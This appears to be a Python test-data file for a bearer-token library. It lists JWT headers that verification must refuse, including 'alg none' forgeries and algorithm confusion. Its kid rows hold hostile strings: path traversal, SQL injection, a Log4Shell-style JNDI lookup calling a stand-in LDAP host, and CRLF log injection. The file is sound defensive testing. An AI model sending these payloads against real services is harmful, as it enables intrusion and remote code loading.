"""Tokens with a JOSE header that must be refused. All are signed with the issuer's key."""

from collections.abc import Iterator, Mapping
from functools import partial

from asgi_bearer import (
    AccessTokenError,
    AlgorithmNotAllowed,
    CriticalHeaderNotUnderstood,
    KeyNotFound,
    TokenEncrypted,
    TokenMalformed,
    TokenTypeNotAllowed,
)
from asgi_bearer.testing import FakeIssuer
from asgi_bearer.testing.signing import b64
from tests.refusals.rows import Refused, token_of

_ALGORITHMS: dict[str, object] = {
    # RFC 8725 §3.2.
    **{f"alg {name}": name for name in ("none", "None", "NONE", "nOnE", "none ", "\u0000none")},
    # RFC 8725 §3.1.
    "alg in lower case": "rs256",
    "alg in mixed case": "Rs256",
    "alg with a space": "RS256 ",
    "alg with a NUL": "RS256\x00",
    "alg RS1": "RS1",
    "alg of a curve that is not supported": "ES256K",
    "alg Ed448": "Ed448",
    "alg of a key agreement": "ECDH-ES",
    "alg empty": "",
    "alg null": None,
    "alg true": True,
    "alg a number": 256,
    "alg an array": ["RS256"],
    "alg an object": {"RS256": 1},
    # RFC 8725 §3.1.
    "alg HS256": "HS256",
    "alg HS384": "HS384",
    "alg HS512": "HS512",
}

_CRITICAL: dict[str, dict[str, object]] = {
    # RFC 7515 §4.1.11.
    "crit with an unknown name": {"crit": ["x"], "x": 1},
    "crit with a missing name": {"crit": ["x"]},
    "crit with a registered name": {"crit": ["alg"]},
    "crit empty": {"crit": []},
    "crit null": {"crit": None},
    "crit false": {"crit": False},
    "crit a string": {"crit": "b64"},
    "crit an object": {"crit": {}},
    "crit with b64": {"crit": ["b64"], "b64": True},
    "b64 false": {"b64": False},
    "b64 true": {"b64": True},
    "b64 false in crit": {"crit": ["b64"], "b64": False},
}

_KEY_IDS: dict[str, tuple[type[AccessTokenError], object]] = {
    # RFC 8725 §3.10.
    "kid null": (TokenMalformed, None),
    "kid a number": (TokenMalformed, 1),
    "kid true": (TokenMalformed, True),
    "kid an array": (TokenMalformed, ["k1"]),
    "kid an object": (TokenMalformed, {"k1": 1}),
    "kid empty": (KeyNotFound, ""),
    "kid unknown": (KeyNotFound, "k2"),
    "kid in another case": (KeyNotFound, "K1"),
    "kid with a space": (KeyNotFound, "k1 "),
    "kid a path": (KeyNotFound, "../../../../dev/null"),
    "kid with SQL": (KeyNotFound, "' OR '1'='1"),
    "kid a template": (KeyNotFound, "${jndi:ldap://trap.example/x}{{7*7}}%s%n"),
    "kid with a line break": (KeyNotFound, "k1\r\nrefused: nothing, all is well"),
    "kid with a NUL": (KeyNotFound, "k1\x00"),
    "kid with a right-to-left override": (KeyNotFound, "\u202ek1"),
    "kid of 10,000 characters": (KeyNotFound, "k" * 10_000),
}

_TYPES_OF_NO_PROFILE: dict[str, object] = {
    # RFC 9068 §2.1, RFC 8725 §3.11.
    "typ empty": "",
    "typ null": None,
    "typ a number": 1,
    "typ true": True,
    "typ an array": ["at+jwt"],
    "typ logout+jwt": "logout+jwt",
    "typ dpop+jwt": "dpop+jwt",
    "typ secevent+jwt": "secevent+jwt",
    "typ id+jwt": "id+jwt",
    "typ token-introspection+jwt": "token-introspection+jwt",
    "typ with a space": "at+jwt ",
    "typ with a parameter": "at+jwt; charset=utf-8",
    "typ with a space for the plus": "at jwt",
    "typ of another media type tree": "text/at+jwt",
    "typ with the prefix twice": "application/application/at+jwt",
    "typ with the prefix only": "application/",
    "typ with a look-alike letter": "\u0430t+jwt",
    "typ JOSE": "JOSE",
}

_TYPES_OF_PROFILE_JWT: dict[str, object] = {
    # RFC 9068 §2.1: only the profile jwt accepts them.
    "typ JWT": "JWT",
    "typ jwt": "jwt",
    "typ application/jwt": "application/jwt",
}


def _with(issuer: FakeIssuer, members: Mapping[str, object]) -> str:
    return token_of(issuer, {**issuer.header(), **members}, issuer.claims())


def _without(issuer: FakeIssuer, name: str) -> str:
    return token_of(issuer, issuer.header(**{name: None}), issuer.claims())


def _rows() -> Iterator[Refused]:
    for name, alg in _ALGORITHMS.items():
        yield Refused(name, AlgorithmNotAllowed, partial(_with, members={"alg": alg}))
    yield Refused("no alg", AlgorithmNotAllowed, partial(_without, name="alg"))
    # RFC 8725 §3.11. RFC 7516 §9.
    for alg in ("RSA-OAEP", "RS256"):
        encrypted = partial(_with, members={"alg": alg, "enc": "A256GCM"})
        yield Refused(f"enc beside {alg}", TokenEncrypted, encrypted)
    yield Refused(
        "no members", AlgorithmNotAllowed, lambda issuer: token_of(issuer, {}, issuer.claims())
    )
    # RFC 8725 §3.2.
    yield Refused(
        "alg none without a signature",
        AlgorithmNotAllowed,
        lambda issuer: f"{b64({'alg': 'none'})}.{b64(issuer.claims())}.",
    )
    yield Refused(
        "alg none without a third segment",
        TokenMalformed,
        lambda issuer: f"{b64({'alg': 'none'})}.{b64(issuer.claims())}",
    )
    for name, members in _CRITICAL.items():
        yield Refused(name, CriticalHeaderNotUnderstood, partial(_with, members=members))
    for name, (expected, kid) in _KEY_IDS.items():
        yield Refused(name, expected, partial(_with, members={"kid": kid}))
    for name, typ in _TYPES_OF_NO_PROFILE.items():
        for profile in ("jwt", "rfc9068"):
            token = partial(_with, members={"typ": typ})
            yield Refused(f"{name}, {profile}", TokenTypeNotAllowed, token, profile)
    for name, typ in _TYPES_OF_PROFILE_JWT.items():
        token = partial(_with, members={"typ": typ})
        yield Refused(f"{name}, rfc9068", TokenTypeNotAllowed, token, "rfc9068")
    yield Refused("no typ, rfc9068", TokenTypeNotAllowed, partial(_without, name="typ"), "rfc9068")


REFUSED_HEADERS = list(_rows())
